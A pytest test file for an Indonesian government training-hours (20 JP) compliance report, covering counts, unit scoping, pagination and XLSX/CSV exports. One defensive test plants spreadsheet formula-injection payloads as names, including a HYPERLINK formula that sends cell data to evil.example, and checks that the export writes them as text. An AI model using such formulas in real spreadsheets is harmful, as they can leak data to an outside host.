"""The 20-JP compliance report: exact counts, the 20 / 19.5 boundary, PPPK, roll-up, scope."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from uuid import uuid4

import msgspec
import pytest
from openpyxl import load_workbook

from lms.auth.caller import Caller
from lms.competencies.compliance import ComplianceService
from lms.competencies.ledger import revoke_session_credit
from tests.factories import make_actor, make_person, make_unit
from tests.lms.builders.competencies import credit

REPORT = "/api/v1/reports/jp-compliance"


@pytest.fixture
async def ledger(app, root_unit, unit, other_unit):
    """Nine ASN and one non-ASN in three units with 2026 ledgers around the boundary.

    DPMPTSP: Andi PNS 20 (reached), Budi PNS 19.5 (not), Citra PPPK 24, Dewi PPPK 25 (above
    the 24 ceiling), Eko non-ASN 30 (not counted). Bidang Pelayanan (below DPMPTSP): Fajar
    PNS 12 + 10 pending, Gita PNS 12 + 8 in 2025, Hendra PNS 12 + 10 revoked. BKPSDM: Indra
    PNS 40, Joko PPPK 0.
    """
    bidang = await make_unit("BIDANG-PEL", "Bidang Pelayanan Perizinan", unit)
    p = {}
    for name, where, asn, nip in (
        ("Andi", unit, "pns", "198001012005011001"),
        ("Budi", unit, "pns", "198102022006021002"),
        ("Citra", unit, "pppk", "199003032022212003"),
        ("Dewi", unit, "pppk", "199104042022212004"),
        ("Eko", unit, "non_asn", None),
        ("Fajar", bidang, "pns", "198205052007031005"),
        ("Gita", bidang, "pns", "198306062008042006"),
        ("Hendra", bidang, "pns", "198407072009051007"),
        ("Indra", other_unit, "pns", "198508082010061008"),
        ("Joko", other_unit, "pppk", "198604272022211011"),
    ):
        golongan = "IX" if asn == "pppk" else ("" if asn == "non_asn" else "III/a")
        p[name] = await make_person(where["id"], name, nip=nip, asn_type=asn, golongan=golongan)
    await credit(p["Andi"], 16)
    await credit(p["Andi"], 4)
    await credit(p["Budi"], "19.5")
    await credit(p["Citra"], 24)
    await credit(p["Dewi"], 25)
    await credit(p["Eko"], 30)
    await credit(p["Fajar"], 12)
    await credit(p["Gita"], 12)
    await credit(p["Gita"], 8, start=dt.date(2025, 10, 1), end=dt.date(2025, 10, 2))
    await credit(p["Hendra"], 12)
    revoked = uuid4()
    await credit(p["Hendra"], 10, session_id=revoked)
    await revoke_session_credit(person_id=p["Hendra"], session_id=revoked, reason="x", actor=None)
    await credit(p["Indra"], 40)
    fajar = await make_actor(app, "participant", person_id=p["Fajar"], unit_id=bidang["id"])
    return {"people": p, "bidang": bidang, "fajar": fajar}


def two(value):
    """A figure as the API writes it: a string with two decimals (``None`` stays ``None``)."""
    return None if value is None else f"{value:.2f}"


def group(headcount, reached, share, jp_total):
    below = None if reached is None else headcount - reached
    return {
        "headcount": headcount,
        "reached": reached,
        "below": below,
        "share_percent": two(share),
        "jp_total": two(jp_total),
    }


async def test_city_report_counts_exactly(client, hr, ledger, root_unit, unit, other_unit):
    # Fajar's own report of 10 JP is pending: it does not count.
    pending = await client.post(
        f"/api/v1/people/{ledger['people']['Fajar']}/learning-records",
        json={
            "title": "Seminar Pelayanan Publik",
            "organizer": "Universitas Andalas",
            "jenis_diklat": 9,
            "start_date": "2026-04-01",
            "end_date": "2026-04-01",
            "jp": 10,
        },
        headers=ledger["fajar"].headers,
    )
    assert pending.json()["status"] == "pending"
    resp = await client.get(REPORT, params={"year": 2026}, headers=hr.headers)
    assert resp.status_code == 200, resp.text
    report = resp.json()
    assert report["year"] == 2026
    assert report["targets"] == {
        "pns_min_jp": "20.00",
        "pppk_min_jp": "20.00",
        "pppk_max_jp": "24.00",
    }
    summary = report["summary"]
    assert summary["code"] == "PEMKOT-PPJ"
    assert summary["pns"] == group(6, 2, 33.33, 115.5)
    assert summary["pppk"] == group(3, 2, 66.67, 49.0)
    assert summary["all"] == group(9, 4, 44.44, 164.5)
    assert summary["pppk_above_max"] == 1

    units = {u["code"]: u for u in report["units"]}
    assert [(u["code"], u["depth"]) for u in report["units"]] == [
        ("PEMKOT-PPJ", 0),
        ("BKPSDM-PPJ", 1),
        ("DPMPTSP-PPJ", 1),
        ("BIDANG-PEL", 2),
    ]
    assert units["PEMKOT-PPJ"]["all"] == summary["all"]
    assert units["DPMPTSP-PPJ"]["pns"] == group(5, 1, 20.0, 75.5)
    assert units["DPMPTSP-PPJ"]["pppk"] == group(2, 2, 100.0, 49.0)
    assert units["DPMPTSP-PPJ"]["all"] == group(7, 3, 42.86, 124.5)
    assert units["BIDANG-PEL"]["pns"] == group(3, 0, 0.0, 36.0)
    assert units["BIDANG-PEL"]["pppk"] == group(0, 0, None, 0.0)
    assert units["BKPSDM-PPJ"]["pns"] == group(1, 1, 100.0, 40.0)
    assert units["BKPSDM-PPJ"]["pppk"] == group(1, 0, 0.0, 0.0)

    assert report["below_target_total"] == 5
    below = [
        (b["name"], b["jp"], b["target_jp"], b["shortfall_jp"]) for b in report["below_target"]
    ]
    assert below == [
        ("Budi", "19.50", "20.00", "0.50"),
        ("Fajar", "12.00", "20.00", "8.00"),
        ("Gita", "12.00", "20.00", "8.00"),
        ("Hendra", "12.00", "20.00", "8.00"),
        ("Joko", "0.00", "20.00", "20.00"),
    ]
    joko = report["below_target"][-1]
    assert joko["nip_display"] == "19860427 2022 21 1 011"
    assert joko["unit_name"] == "BKPSDM Kota Padang Panjang"
    assert joko["asn_type"] == "pppk"


async def test_below_target_list_is_paginated(client, hr, ledger):
    resp = await client.get(
        REPORT,
        params={"year": 2026, "below_target_limit": 2, "below_target_offset": 1},
        headers=hr.headers,
    )
    report = resp.json()
    assert [b["name"] for b in report["below_target"]] == ["Fajar", "Gita"]
    last = await client.get(
        REPORT,
        params={"year": 2026, "below_target_limit": 100, "below_target_offset": 4},
        headers=hr.headers,
    )
    assert [b["name"] for b in last.json()["below_target"]] == ["Joko"]
    assert report["below_target_total"] == 5
    assert (report["below_target_limit"], report["below_target_offset"]) == (2, 1)


async def test_another_year_counts_that_year_only(client, hr, ledger):
    report = (await client.get(REPORT, params={"year": 2025}, headers=hr.headers)).json()
    assert report["summary"]["all"]["reached"] == 0
    assert report["summary"]["all"]["jp_total"] == "8.00"
    assert {b["name"]: b["jp"] for b in report["below_target"]} == {
        "Andi": "0.00", "Budi": "0.00", "Citra": "0.00", "Dewi": "0.00", "Fajar": "0.00",
        "Gita": "8.00", "Hendra": "0.00", "Indra": "0.00", "Joko": "0.00",
    }  # fmt: skip


async def test_organizer_sees_their_unit_and_below_only(client, organizer, ledger, other_unit):
    mine = (await client.get(REPORT, params={"year": 2026}, headers=organizer.headers)).json()
    assert mine["summary"]["code"] == "DPMPTSP-PPJ"
    assert [u["code"] for u in mine["units"]] == ["DPMPTSP-PPJ", "BIDANG-PEL"]
    assert [b["name"] for b in mine["below_target"]] == ["Budi", "Fajar", "Gita", "Hendra"]
    other = await client.get(
        REPORT, params={"year": 2026, "unit_id": str(other_unit["id"])}, headers=organizer.headers
    )
    assert other.status_code == 404


async def test_participants_and_trainers_may_not_read_reports(client, participant, trainer_user):
    for actor in (participant, trainer_user):
        assert (await client.get(REPORT, headers=actor.headers)).status_code == 403


async def test_admin_without_unit_sees_every_unit(client, admin, ledger):
    report = (await client.get(REPORT, params={"year": 2026}, headers=admin.headers)).json()
    assert report["summary"]["unit_id"] is None
    assert report["summary"]["name"] == "Semua unit"
    assert report["summary"]["all"] == group(9, 4, 44.44, 164.5)


async def test_pppk_without_a_target_are_counted_not_judged(app, hr, ledger):
    settings = msgspec.structs.replace(app.state.settings, pppk_min_jp=None)
    caller = Caller(
        user_id=hr.user_id,
        username=hr.username,
        role="hr",
        unit_id=hr.unit_id,
        unit_path=f"/{hr.unit_id}/",
    )
    report = await ComplianceService(settings).report(caller, year=2026, unit_id=None)
    assert report.summary.pppk.headcount == 3
    assert report.summary.pppk.reached is None
    assert report.summary.all.headcount == 9
    assert (report.summary.all.reached, report.summary.all.below) == (2, 4)
    assert [b.name for b in report.below_target] == ["Budi", "Fajar", "Gita", "Hendra"]


async def test_xlsx_has_the_summary_and_everyone_below_target(client, hr, ledger):
    resp = await client.get(REPORT, params={"year": 2026, "format": "xlsx"}, headers=hr.headers)
    assert resp.status_code == 200
    assert resp.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert 'filename="kepatuhan-jp-2026.xlsx"' in resp.headers["content-disposition"]
    book = load_workbook(io.BytesIO(resp.content))
    assert book.sheetnames == ["Ringkasan", "Di bawah target"]
    sheet = book["Ringkasan"]
    summary = list(sheet.values)
    # The kop (the government; HR sits in the root unit), the title, a blank line, the header.
    assert summary[0][0] == "PEMERINTAH KOTA PADANG PANJANG"
    assert summary[1][0] == "Kepatuhan 20 JP tahun 2026: Pemerintah Kota Padang Panjang"
    assert summary[3][:5] == ("Unit", "Kode", "PNS", "PNS capai target", "PNS %")
    assert summary[4][:5] == ("Pemerintah Kota Padang Panjang", "PEMKOT-PPJ", 6, 2, 33.33)
    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == f"A4:M{len(summary)}"
    assert sheet.column_dimensions["A"].width == 44
    assert sheet["E5"].number_format == '0.00" %"'
    people_sheet = book["Di bawah target"]
    people = list(people_sheet.values)
    assert people[0][0] == "PEMERINTAH KOTA PADANG PANJANG"
    assert people[1][0] == "Pegawai di bawah target JP"
    assert people[3] == (
        "No", "NIP", "Nama", "Jenis ASN", "Jabatan", "Unit", "JP", "Target", "Kekurangan"
    )  # fmt: skip
    assert len(people) == 9
    assert people[4] == (
        1, "19810202 200602 1 002", "Budi", "PNS", "Pengadministrasi Umum",
        "DPMPTSP Kota Padang Panjang", 19.5, 20, 0.5,
    )  # fmt: skip
    assert people[8][1:4] == ("19860427 2022 21 1 011", "Joko", "PPPK")
    assert people[8][6:] == (0, 20, 20)
    assert people_sheet.freeze_panes == "A5"
    assert people_sheet.auto_filter.ref == "A4:I9"
    assert people_sheet["B5"].data_type == "s"  # the NIP stays text
    assert people_sheet["G5"].number_format == "#,##0.00"


async def test_csv_is_the_summary_for_excel_in_an_indonesian_locale(client, hr, ledger):
    resp = await client.get(REPORT, params={"year": 2026, "format": "csv"}, headers=hr.headers)
    assert resp.status_code == 200
    assert 'filename="kepatuhan-jp-2026.csv"' in resp.headers["content-disposition"]
    lines = resp.content.decode("utf-8-sig").split("\r\n")
    assert lines[0].startswith("Unit;Kode;PNS;PNS capai target;PNS %;PPPK;")
    assert lines[1].startswith("Pemerintah Kota Padang Panjang;PEMKOT-PPJ;6;2;33,33;")


async def test_xlsx_writes_typed_text_as_text_never_as_a_formula(client, hr, unit):
    link = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'
    await make_person(unit["id"], link, nip="199001012015031001", jabatan="=1+2")
    await make_person(unit["id"], "@SUM(1+1)", nip="199001012015031002", jabatan="-2+3")
    resp = await client.get(REPORT, params={"year": 2026, "format": "xlsx"}, headers=hr.headers)
    assert resp.status_code == 200
    with zipfile.ZipFile(io.BytesIO(resp.content)) as archive:
        xml = "".join(
            archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")
        )
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(resp.content))["Di bawah target"]
    rows = {row[2].value: row for row in sheet.iter_rows(min_row=5)}
    assert rows[link][4].value == "=1+2"
    assert rows[link][2].data_type == rows[link][4].data_type == "s"
    assert rows["@SUM(1+1)"][4].value == "-2+3"
    assert rows["@SUM(1+1)"][4].data_type == "s"


async def test_both_join_strategies_give_the_same_report(app, hr, ledger):
    caller = Caller(
        user_id=hr.user_id,
        username=hr.username,
        role="hr",
        unit_id=hr.unit_id,
        unit_path=f"/{hr.unit_id}/",
    )
    service = ComplianceService(app.state.settings)
    by_lookup = await service.report(caller, year=2026, unit_id=None, by_hash=False)
    by_hash = await service.report(caller, year=2026, unit_id=None, by_hash=True)
    assert msgspec.to_builtins(by_lookup) == msgspec.to_builtins(by_hash)
    assert by_hash.summary.all.headcount == 9
